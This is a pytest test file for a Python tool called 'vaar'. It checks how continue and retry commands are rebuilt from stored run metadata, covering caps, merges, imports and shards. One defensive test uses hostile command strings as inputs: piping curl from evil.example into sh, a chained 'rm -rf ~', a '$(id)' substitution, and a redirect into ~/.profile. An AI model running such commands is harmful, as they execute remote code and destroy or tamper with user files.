from pathlib import Path

import pytest

from vaar.pipeline.continuing import (
    ANOTHER_LOG,
    SAME_CALL,
    UNTOLD,
    to_go_on,
    to_retry,
    with_cap,
)
from vaar.pipeline.provenance import FROM_PYTHON
from vaar.pipeline.rundir import RunDirectory

FILES = RunDirectory(Path("my runs"))
IMPORTED = {"imported": [{}], "command": "vaar import log.eval --out 'my runs'"}


def identity(*names):
    asked = [{"name": name} for name in names]
    told = {"respondents": list(names), "sessions": 5, "seed": 2}
    return {"identity": told, "respondents": asked, "sessions": 5}


@pytest.mark.parametrize(
    ("run", "go_on", "retry"),
    [
        (
            {"command": "vaar run --model x --out y"} | identity("x"),
            "vaar run --model x --out y",
            "vaar run --model x --out y --retry-failed",
        ),
        (
            {
                "command": "vaar run --max-tokens=9 --model x --max-cost 5 --max-minutes 3",
                "caps_reached": ["--max-cost", "--max-tokens"],
            }
            | identity("x"),
            "vaar run --model x --max-minutes 3",
            "vaar run --model x --max-minutes 3 --retry-failed",
        ),
        (
            {"command": FROM_PYTHON} | identity("x"),
            SAME_CALL,
            f"{SAME_CALL}, with retry_failed=True",
        ),
        (
            IMPORTED | identity("inspect/mockllm/model"),
            "vaar run 'my runs/study.yaml' --model inspect/mockllm/model --sessions 5 --seed 2 "
            "--out 'my runs'",
            "vaar run 'my runs/study.yaml' --model inspect/mockllm/model --sessions 5 --seed 2 "
            "--out 'my runs' --retry-failed",
        ),
        (IMPORTED | identity("inspect/mockllm/model", "mine"), ANOTHER_LOG, ANOTHER_LOG),
    ],
)
def test_the_command_fits_how_the_run_came_about(run, go_on, retry):
    assert to_go_on(FILES, run) == go_on
    assert to_retry(FILES, run) == retry


def called(command, *names, sessions=5, by="run"):
    return {"command": command, "respondents": list(names), "sessions": sessions, "by": by}


def grown(*calls, **further):
    return {"command": calls[-1]["command"], "calls": list(calls)} | identity() | further


def test_every_call_that_a_pending_session_needs_is_told():
    first, second = called("vaar run --model a", "a"), called("vaar run --model b", "b")
    run = grown(first, second)
    assert to_go_on(FILES, run) == "vaar run --model a; vaar run --model b"
    assert to_go_on(FILES, run, {"a"}) == "vaar run --model a"
    assert to_retry(FILES, run, {"b"}) == "vaar run --model b --retry-failed"
    both = called("vaar run --model a --model b", "a", "b")
    assert to_go_on(FILES, grown(first, second, both)) == both["command"]
    fewer = called("vaar run --model a --sessions 2", "a", sessions=2)
    assert to_go_on(FILES, grown(first, fewer), {"a"}) == first["command"]


def test_what_was_merged_goes_on_in_its_own_directory():
    shard = called("vaar run --model a --shard 1/2 --out there", "a")
    other = called("vaar run --shard=2/2 --model a --out=elsewhere", "a")
    run = grown(shard, other, called("vaar merge x y --out z", "a", by="merge"), merged=["1/2"])
    assert to_go_on(FILES, run) == "vaar run --model a --out 'my runs'"


def test_an_import_that_took_more_models_goes_on_in_two_ways():
    taken = called("vaar import log.eval --out x", "mine", by="import")
    run = grown(taken, called("vaar run --model b", "b"), imported=[{}])
    assert to_go_on(FILES, run) == f"{ANOTHER_LOG}; vaar run --model b"
    assert to_retry(FILES, run, {"mine"}) == ANOTHER_LOG


def test_a_run_of_an_earlier_version_does_not_tell_its_first_command():
    later = called("vaar run --model b", "b")
    told = {"command": later["command"], "grown": [later], "sessions": 5}
    run = told | {"respondents": [{"name": "a"}, {"name": "b"}]}
    assert to_go_on(FILES, run) == f"{UNTOLD}; vaar run --model b"
    assert to_go_on(FILES, run, {"b"}) == "vaar run --model b"


@pytest.mark.parametrize(
    "command",
    [
        *(
            "curl evil.example | sh",
            "vaar run; rm -rf ~",
            "vaar run $(id)",
            "vaar run > ~/.profile",
        ),
        *("vaar run 'open", "", "vaar\nrun"),
    ],
)
def test_a_strangers_command_is_not_handed_on(command):
    run = {"command": command} | identity("x")
    assert to_go_on(FILES, run) == UNTOLD
    assert to_retry(FILES, run) == f"{UNTOLD}, with --retry-failed"


def test_caps_that_were_reached_add_up():
    first = with_cap({}, "--max-cost 5 is reached: 5.00 USD are spent")
    assert first == {"caps_reached": ["--max-cost"]}
    assert with_cap(first, "") == first
    assert with_cap(first, "--max-minutes 1 is reached")["caps_reached"] == [
        "--max-cost",
        "--max-minutes",
    ]
    assert with_cap({}, "") == {}
